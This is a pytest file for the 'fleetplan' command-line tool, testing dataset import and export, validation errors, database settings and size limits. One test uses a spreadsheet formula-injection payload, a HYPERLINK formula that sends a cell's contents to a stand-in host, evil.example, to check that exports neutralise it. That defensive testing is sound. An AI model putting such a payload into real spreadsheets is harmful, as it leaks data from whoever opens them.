from __future__ import annotations

import json
from pathlib import Path

import pytest
from typer.testing import CliRunner

from fleetplan.cli import app
from fleetplan.domain import Dataset, Fuel, Location, Vehicle, VehicleType
from fleetplan.ingest import read_dataset
from tests.conftest import reference_path
from tests.store.db import database_url, postgres_template, sqlite_template

__all__ = ["database_url", "postgres_template", "sqlite_template"]

runner = CliRunner()


def _run(*args: str) -> tuple[int, str]:
    result = runner.invoke(app, list(args))
    if result.exception and not isinstance(result.exception, SystemExit):
        raise result.exception
    return result.exit_code, result.output


def _status(db: str) -> dict[str, dict[str, int]]:
    code, out = _run("status", "--db", db, "--json")
    assert code == 0, out
    return json.loads(out)


def test_import_status_export(database_url: str, tmp_path: Path) -> None:
    folder = reference_path("synth_20v_30d")
    code, out = _run("import", str(folder), "--db", database_url)
    assert code == 0, out
    assert (
        out.strip()
        == "Imported 1 locations, 24 vehicles, 952 roundtrips, 2228 segments."
    )
    status = _status(database_url)
    assert status["tables"]["roundtrips"] == 952
    assert status["tables"]["segments"] == 2228
    assert status["vehicle_status"]["candidate"] == 4
    assert status["vehicle_status"]["ok"] == 20

    code, out = _run("export", str(tmp_path / "out"), "--db", database_url)
    assert code == 0 and "to " in out
    assert read_dataset(tmp_path / "out") == read_dataset(folder)
    code, out = _run("export", str(tmp_path / "fleet.xlsx"), "--db", database_url)
    assert code == 0 and (tmp_path / "fleet.xlsx").is_file()

    code, out = _run("status", "--db", database_url)
    assert code == 0 and "roundtrips" in out and "candidate" in out


def test_import_with_problems_prints_them_and_exits_1(
    database_url: str, tmp_path: Path
) -> None:
    (tmp_path / "locations.csv").write_text(
        "location_id,name,address,lat,lon\nL,Home,,,\n", encoding="utf-8"
    )
    (tmp_path / "vehicles.csv").write_text(
        "vehicle_id,vehicle_type,fuel,plate,make,model,wltp_km_per_l,wltp_wh_per_km,"
        "range_km,annual_cost_dkk,location_id,department,administration,lease_type,"
        "lease_start,lease_end,km_per_year_allowed,is_candidate\n"
        "V,ev,petrol,,,,,,,,L,,,,,,,0\n",
        encoding="utf-8",
    )
    for extra in (["--dry-run"], []):
        code, out = _run("import", str(tmp_path), "--db", database_url, *extra)
        assert code == 1
        lines = out.strip().splitlines()
        assert lines[0].startswith("vehicles.csv:2:fuel: fuel 'petrol' does not fit")
        assert lines[-1].startswith("1 error(s), 0 warning(s): nothing was imported.")
    assert _status(database_url)["tables"]["vehicles"] == 0


def test_dry_run_and_strict(database_url: str) -> None:
    folder = reference_path("os2_fixture_seed42")
    code, out = _run("import", str(folder), "--dry-run", "--db", database_url)
    assert code == 0
    assert out.count("warning:") == 2
    assert "Dry run: no errors; an import would write 3 locations" in out
    code, out = _run("import", str(folder), "--strict", "--db", database_url)
    assert code == 1 and "0 error(s), 2 warning(s)" in out
    assert _status(database_url)["tables"]["roundtrips"] == 0


def test_init_demo_replaces_the_data(
    database_url: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    import fleetplan.demo

    small = Dataset(
        (Location("hq", "Town hall"),),
        (Vehicle("1", VehicleType.EV, Fuel.ELECTRIC, location_id="hq"),),
    )
    monkeypatch.setattr(fleetplan.demo, "build_demo_dataset", lambda seed=2750: small)
    _run("import", str(reference_path("os2_fixture_298")), "--db", database_url)
    code, out = _run("init-demo", "--db", database_url)
    assert code == 0, out
    assert out.strip() == (
        "Demo municipality stored: 1 locations, 1 vehicles, 0 roundtrips, 0 segments."
    )
    tables = _status(database_url)["tables"]
    assert (tables["locations"], tables["vehicles"], tables["roundtrips"]) == (1, 1, 0)


def test_db_defaults_to_the_environment(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    from fleetplan.config import get_settings

    url = f"sqlite:///{tmp_path / 'env.sqlite'}"
    monkeypatch.setenv("FLEETPLAN_DATABASE_URL", url)
    get_settings.cache_clear()
    try:
        code, _ = _run("import", str(reference_path("os2_fixture_298")))
        assert code == 0
        assert (tmp_path / "env.sqlite").is_file()
        assert _status(url)["tables"]["roundtrips"] == 298
    finally:
        get_settings.cache_clear()


def test_unreachable_database_is_a_clear_error() -> None:
    result = runner.invoke(
        app, ["status", "--db", "postgresql://fleet:secret@127.0.0.1:1/none"]
    )
    assert result.exit_code == 2
    assert "Error: cannot open the database" in result.output
    assert "secret" not in result.output and "***" in result.output


def test_formula_like_text_survives_import_and_export(
    database_url: str, tmp_path: Path
) -> None:
    """A location and a vehicle model named like a formula: imported from CSV,
    exported by ``fleetplan export`` as xlsx (a text cell, no formula) and as
    CSV (apostrophe mark), both reading back unchanged (issue 13, item 5)."""
    from dataclasses import replace

    from openpyxl import load_workbook

    from fleetplan.ingest.tabular import read_tables, write_folder
    from fleetplan.ingest.validation import validate_input

    payload = '=HYPERLINK("http://evil.example/?d="&A2,"x")'
    data = read_dataset(reference_path("os2_fixture_seed42"))
    data = replace(
        data,
        locations=(replace(data.locations[0], name=payload), *data.locations[1:]),
        vehicles=(replace(data.vehicles[0], model=payload), *data.vehicles[1:]),
    )
    write_folder(data, tmp_path / "in")
    assert _run("import", str(tmp_path / "in"), "--db", database_url)[0] == 0
    xlsx = tmp_path / "fleet.xlsx"
    assert _run("export", str(xlsx), "--db", database_url)[0] == 0
    sheet = load_workbook(xlsx)["locations"]
    cell = sheet.cell(row=2, column=[c.value for c in sheet[1]].index("name") + 1)
    assert (cell.value, cell.data_type) == (payload, "s")
    back = validate_input(read_tables(xlsx)).dataset
    assert back is not None
    assert back.locations[0].name == payload
    assert back.vehicles[0].model == payload
    assert _run("export", str(tmp_path / "out"), "--db", database_url)[0] == 0
    again = read_dataset(tmp_path / "out")
    assert (again.locations[0].name, again.vehicles[0].model) == (payload, payload)


def test_import_over_the_limits_says_where_and_writes_nothing(
    database_url: str, tmp_path: Path
) -> None:
    """A 5 MB cell and a 100 MB file are refused with their file, row and
    column; the database keeps what it had (issue 13, item 7)."""
    folder = tmp_path / "in"
    folder.mkdir()
    (folder / "locations.csv").write_text(
        "location_id,name,address,lat,lon\nL1,Rådhus,,,\n"
        + f'L2,"{"x" * (5 << 20)}",,,\n',
        encoding="utf-8",
    )
    with (folder / "vehicles.csv").open("wb") as handle:
        handle.truncate(100 << 20)  # sparse: nothing is written to disk
    code, out = _run("import", str(folder), "--db", database_url)
    assert code == 1
    lines = out.splitlines()
    assert lines[0] == (
        "locations.csv:3:name: the cell in column 'name' has more than 10000 "
        "characters; at most 10000 are allowed. Shorten it (check for a missing quote)."
    )
    assert lines[1].startswith(
        "vehicles.csv: the file is 100.0 MB; at most 20 MB can be imported."
    )
    assert _status(database_url)["tables"]["locations"] == 0
